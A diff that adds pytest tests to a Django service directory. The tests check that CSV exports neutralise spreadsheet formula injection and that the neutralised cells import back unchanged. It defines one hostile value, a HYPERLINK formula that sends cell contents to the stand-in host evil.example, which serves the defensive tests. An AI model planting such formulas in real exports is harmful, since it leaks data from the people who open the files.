@@ -7,6 +7,7 @@ from pathlib import Path
 import pytest
 from django.core.management import call_command
 
+from directory.spreadsheets import from_spreadsheet, spreadsheet_safe
 from partners.exporter import export_listings
 from partners.importer import COLUMNS
 from partners.models import Organisation, Service, Status
@@ -145,6 +146,58 @@ def test_listings_export_reports_services_whose_other_places_do_not_fit(db, tmp_
     err = io.StringIO()
     call_command("export_listings", str(tmp_path / "out.csv"), stdout=io.StringIO(), stderr=err)
     assert "Two places" in err.getvalue()
+
+
+# --- Formulas -------------------------------------------------------------------------------
+
+EVIL = '=HYPERLINK("http://evil.example/"&A2,"Open referral form")'
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        (EVIL, "'" + EVIL),
+        ("+44 1632 960000", "'+44 1632 960000"),
+        ("-1+2", "'-1+2"),
+        ("-1.7499", "-1.7499"),
+        ("'-1.7499", "''-1.7499"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("'=already quoted", "''=already quoted"),
+        ("'Tis the season", "'Tis the season"),
+        ("Plain text = fine", "Plain text = fine"),
+        ("", ""),
+    ],
+)
+def test_cells_a_spreadsheet_would_run_are_defused_and_read_back(value, written):
+    assert spreadsheet_safe(value) == written
+    assert from_spreadsheet(written) == value
+
+
+def test_a_formula_in_a_listing_is_defused_in_the_listings_export(db):
+    make_service("Evil", organisation=make_organisation(EVIL), description="-1+2", phone="+44 1632 960000")
+    row = rows_of(export_listings().text)[0]
+    assert (row["organisation"], row["description"], row["phone"]) == ("'" + EVIL, "'-1+2", "'+44 1632 960000")
+
+
+def test_a_formula_is_defused_in_the_moderators_csv_download(moderator_client):
+    make_service(organisation=make_organisation(EVIL))
+    response = moderator_client.get("/admin/api/export/listings.csv")
+    assert response.status_code == 200
+    assert rows_of(response.content.decode())[0]["organisation"] == "'" + EVIL
+
+
+def test_defused_cells_round_trip_through_import(db, tmp_path):
+    organisation = make_organisation(EVIL, phone="+44 1632 960000")
+    make_service("'=not a formula either", organisation=organisation, description="@mention", opening_hours="'Tis")
+    first = export_file(tmp_path, "first.csv")
+    empty_the_directory()
+    call_command("import_listings", str(tmp_path / "first.csv"), stdout=io.StringIO())
+    organisation = Organisation.objects.get()
+    assert (organisation.name, organisation.phone) == (EVIL, "+44 1632 960000")
+    service = Service.objects.get()
+    assert (service.name, service.description, service.opening_hours) == ("'=not a formula either", "@mention", "'Tis")
+    assert export_file(tmp_path, "second.csv") == first
 
 
 # --- HSDS ------------------------------------------------------------------------------------
